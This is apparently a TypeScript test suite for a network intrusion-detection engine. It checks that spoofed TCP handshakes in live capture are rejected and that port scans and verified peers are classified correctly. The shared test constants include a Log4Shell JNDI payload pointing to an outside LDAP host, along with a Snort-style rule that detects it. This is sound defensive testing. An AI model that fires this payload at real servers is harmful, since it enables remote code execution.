/**
 * Handshake evidence in live capture (issue 14, item 9): only what this host's kernel really sent
 * (outbound) and received (inbound) proves a completed handshake; inbound packets with one of our
 * own addresses as source are spoofed; frames for other hosts are ignored. Offline (no direction)
 * the engine reads a capture the way Suricata reads a pcap file.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { tcpFrame, parseIpv4 } from '../../../src/engine/pcap-writer.js';
import type { Engine } from '../../../src/engine/engine.js';
import type { LocalAddresses } from '../../../src/engine/types.js';
import type { DetectorSpec } from '../../../src/signatures/types.js';
import { ACK, PSH, SYN, makeEngine, rules, withDetectors } from './helpers.js';

// Direction codes as the capture adapter reports them (src/engine/capture/types.ts DIR).
const UNKNOWN = 0;
const IN = 1;
const OUT = 2;
const OTHER_HOST = 3;

const H = '198.51.100.11'; // this host
const V = '198.51.100.12'; // a live host that sent nothing
const A = '198.51.100.10'; // the attacker
const LOG4J = 'GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${jndi:ldap://203.0.113.66/a}\r\n\r\n';

const SCAN: DetectorSpec = {
  id: 5001,
  name: 'Scan.Generic.PortScan',
  kind: 'portscan',
  track: 'by_src',
  distinctPorts: 5,
  seconds: 60,
  description: '',
  severity: 'medium',
  action: 'block',
  source: { file: 'x.yaml', line: 1 },
};
const RULESET = withDetectors(rules('alert tcp any any -> any 8080 (msg:"Log4Shell"; content:"${jndi:"; sid:7001;)'), [SCAN]);

function u32(ip: string): number {
  const b = parseIpv4(ip);
  return ((b[0]! << 24) | (b[1]! << 16) | (b[2]! << 8) | b[3]!) >>> 0;
}

/** This host's addresses as the service would inject them. */
function hostAddresses(list: string[], known = true): LocalAddresses {
  const set = new Set(list.map(u32));
  return { known, has4: (a) => set.has(a), has6: () => false };
}

let ts = 1_763_700_000_000_000;
function send(engine: Engine, dir: number, src: string, dst: string, sport: number, dport: number, seq: number, ack: number, flags: number, payload?: string): void {
  const f = tcpFrame({ srcIp: src, dstIp: dst, srcPort: sport, dstPort: dport, seq, ack, flags, ...(payload !== undefined ? { payload: Buffer.from(payload, 'latin1') } : {}) });
  engine.processPacket(f, f.length, 1, (ts += 1000), 0, dir as 0);
}

/** SYN V→H, forged SYN/ACK H→V, ACK, Log4Shell: everything arrives inbound (injected by A). */
function forgedHandshake(engine: Engine, sport: number): void {
  send(engine, IN, V, H, sport, 8080, 1000, 0, SYN);
  send(engine, IN, H, V, 8080, sport, 9000, 1001, SYN | ACK);
  send(engine, IN, V, H, sport, 8080, 1001, 9001, ACK);
  send(engine, IN, V, H, sport, 8080, 1001, 9001, ACK | PSH, LOG4J);
}

/** A real connection A→H: H's kernel answers with the SYN/ACK (outbound). */
function realHandshake(engine: Engine, sport: number): void {
  send(engine, IN, A, H, sport, 8080, 2000, 0, SYN);
  send(engine, OUT, H, A, 8080, sport, 7000, 2001, SYN | ACK);
  send(engine, IN, A, H, sport, 8080, 2001, 7001, ACK);
  send(engine, IN, A, H, sport, 8080, 2001, 7001, ACK | PSH, LOG4J);
}

/** SYNs from `src` to `n` distinct ports (a port scan as the detector sees it). */
function synScan(engine: Engine, src: string, n: number): void {
  for (let i = 0; i < n; i++) send(engine, IN, src, H, 50000 + i, 1000 + i, 100 + i, 0, SYN);
}

test('live: a forged SYN/ACK arriving inbound with our own source is spoofed; the forged handshake proves nothing', () => {
  const { engine, detections } = makeEngine(RULESET, { host: hostAddresses([H, '127.0.0.1']) });
  forgedHandshake(engine, 40000);
  const l4s = detections.filter((d) => d.signatureId === 7001);
  assert.equal(l4s.length, 1, 'the payload is still inspected (alert)');
  assert.equal(l4s[0]!.srcIp, V);
  assert.equal(l4s[0]!.handshakeCompleted, false, 'a forged handshake must never count as completed');
  assert.equal(engine.stats().dropped.spoofed_source, 1, 'the forged SYN/ACK is counted as spoofed');
  // The scan detector must not treat V as a verified peer.
  synScan(engine, V, 5);
  const scan = detections.find((d) => d.detector === 'portscan');
  assert.ok(scan, 'port scan from V detected');
  assert.equal(scan.srcIp, V);
  assert.equal(scan.handshakeCompleted, false, 'V never completed a handshake with this host');
  // A real handshake (our SYN/ACK seen outbound) is evidence, for the flow and for the detectors.
  realHandshake(engine, 40001);
  const real = detections.filter((d) => d.signatureId === 7001 && d.srcIp === A);
  assert.equal(real.length, 1);
  assert.equal(real[0]!.handshakeCompleted, true);
  synScan(engine, A, 5);
  const scanA = detections.find((d) => d.detector === 'portscan' && d.srcIp === A);
  // A scan is half-open evidence; A raised a detection with handshake evidence, so it is no
  // verified peer and the half-open evidence blocks it (src/service/half-open.ts).
  assert.equal(scanA?.evidence, 'half-open');
  assert.equal(scanA.verifiedPeer, false, 'A attacked: not vouched for');
});

test('live: with our addresses not yet known, direction alone rejects a SYN/ACK that arrived inbound', () => {
  const { engine, detections } = makeEngine(RULESET, { host: hostAddresses([], false) });
  forgedHandshake(engine, 40010);
  const d = detections.find((x) => x.signatureId === 7001);
  assert.equal(d?.handshakeCompleted, false);
  assert.equal(engine.stats().dropped.wrong_direction, 1, 'an inbound SYN/ACK for an inbound SYN is not this host\'s answer');
  // The same forgery where the forger also sends the SYN/ACK first and the kernel's real one
  // follows: only the outbound SYN/ACK counts, and the forged ACK does not acknowledge it.
  send(engine, IN, V, H, 40011, 8080, 1000, 0, SYN);
  send(engine, IN, H, V, 8080, 40011, 9000, 1001, SYN | ACK);
  send(engine, OUT, H, V, 8080, 40011, 123456, 1001, SYN | ACK);
  send(engine, IN, V, H, 40011, 8080, 1001, 9001, ACK);
  send(engine, IN, V, H, 40011, 8080, 1001, 9001, ACK | PSH, LOG4J);
  const d2 = detections.filter((x) => x.signatureId === 7001);
  assert.equal(d2.length, 2);
  assert.equal(d2[1]!.handshakeCompleted, false);
});

test('live: a connection this host opens is evidence when our SYN and ACK were seen outbound', () => {
  const r = withDetectors(rules('alert tcp any 8080 -> any any (msg:"evil banner"; flow:to_client; content:"EVILBANNER"; sid:7002;)'), []);
  const { engine, detections } = makeEngine(r, { host: hostAddresses([H]) });
  send(engine, OUT, H, A, 41000, 8080, 500, 0, SYN);
  send(engine, IN, A, H, 8080, 41000, 800, 501, SYN | ACK);
  send(engine, OUT, H, A, 41000, 8080, 501, 801, ACK);
  send(engine, IN, A, H, 8080, 41000, 801, 501, ACK | PSH, 'EVILBANNER');
  assert.equal(detections.length, 1);
  assert.equal(detections[0]!.srcIp, A);
  assert.equal(detections[0]!.handshakeCompleted, true);
  // Same exchange where our side was only seen inbound (forged "from us"): spoofed, nothing proved.
  send(engine, IN, H, A, 41001, 8080, 500, 0, SYN);
  send(engine, IN, A, H, 8080, 41001, 800, 501, SYN | ACK);
  send(engine, IN, H, A, 41001, 8080, 501, 801, ACK);
  send(engine, IN, A, H, 8080, 41001, 801, 501, ACK | PSH, 'EVILBANNER');
  assert.equal(engine.stats().dropped.spoofed_source, 2);
  assert.ok(detections.slice(1).every((d) => !d.handshakeCompleted));
});

test('live: packets without a known direction never prove a handshake; offline (pcap) semantics are unchanged', () => {
  const live = makeEngine(RULESET, { host: hostAddresses([H]) });
  send(live.engine, UNKNOWN, A, H, 42000, 8080, 1, 0, SYN);
  send(live.engine, UNKNOWN, H, A, 8080, 42000, 50, 2, SYN | ACK);
  send(live.engine, UNKNOWN, A, H, 42000, 8080, 2, 51, ACK);
  send(live.engine, UNKNOWN, A, H, 42000, 8080, 2, 51, ACK | PSH, LOG4J);
  assert.equal(live.detections.length, 1);
  assert.equal(live.detections[0]!.handshakeCompleted, false);
  synScan(live.engine, A, 5);
  assert.equal(live.detections.find((d) => d.detector === 'portscan')?.handshakeCompleted, false, 'not a verified peer either');
  // Offline: no host, no direction — the three-way handshake as seen in the capture counts.
  const offline = makeEngine(RULESET);
  send(offline.engine, UNKNOWN, A, H, 42000, 8080, 1, 0, SYN);
  send(offline.engine, UNKNOWN, H, A, 8080, 42000, 50, 2, SYN | ACK);
  send(offline.engine, UNKNOWN, A, H, 42000, 8080, 2, 51, ACK);
  send(offline.engine, UNKNOWN, A, H, 42000, 8080, 2, 51, ACK | PSH, LOG4J);
  assert.equal(offline.detections[0]?.handshakeCompleted, true);
});

test('live: frames for other hosts are ignored and counted', () => {
  const { engine, detections } = makeEngine(RULESET, { host: hostAddresses([H]) });
  // The adapter saw a foreign destination MAC (or the kernel's PACKET_OTHERHOST).
  send(engine, OTHER_HOST, A, H, 43000, 8080, 1, 0, SYN);
  send(engine, OTHER_HOST, A, H, 43000, 8080, 2, 0, ACK | PSH, LOG4J);
  // No direction (raw IP link) and neither address is ours.
  send(engine, UNKNOWN, A, V, 43001, 8080, 2, 0, ACK | PSH, LOG4J);
  assert.equal(detections.length, 0);
  const st = engine.stats();
  assert.equal(st.dropped.not_for_host, 3);
  assert.equal(st.flowsCreated, 0);
});

test('live: a peer with a real handshake 10 s or more before is a verified peer for a scan in its name; a forged one is not', () => {
  const { engine, detections } = makeEngine(RULESET, { host: hostAddresses([H]) });
  const P = '198.51.100.20';
  send(engine, IN, P, H, 43000, 8080, 3000, 0, SYN);
  send(engine, OUT, H, P, 8080, 43000, 6000, 3001, SYN | ACK);
  send(engine, IN, P, H, 43000, 8080, 3001, 6001, ACK);
  send(engine, IN, P, H, 43000, 8080, 3001, 6001, ACK | PSH, 'GET / HTTP/1.1\r\nHost: h\r\n\r\n');
  forgedHandshake(engine, 43001);
  ts += 11_000_000;
  synScan(engine, P, 5);
  synScan(engine, V, 5);
  const scans = detections.filter((d) => d.detector === 'portscan');
  assert.deepEqual(scans.map((d) => [d.srcIp, d.evidence, d.verifiedPeer]), [[P, 'half-open', true], [V, 'half-open', false]]);
  assert.equal(engine.stats().verifiedPeers.size, 1);
});
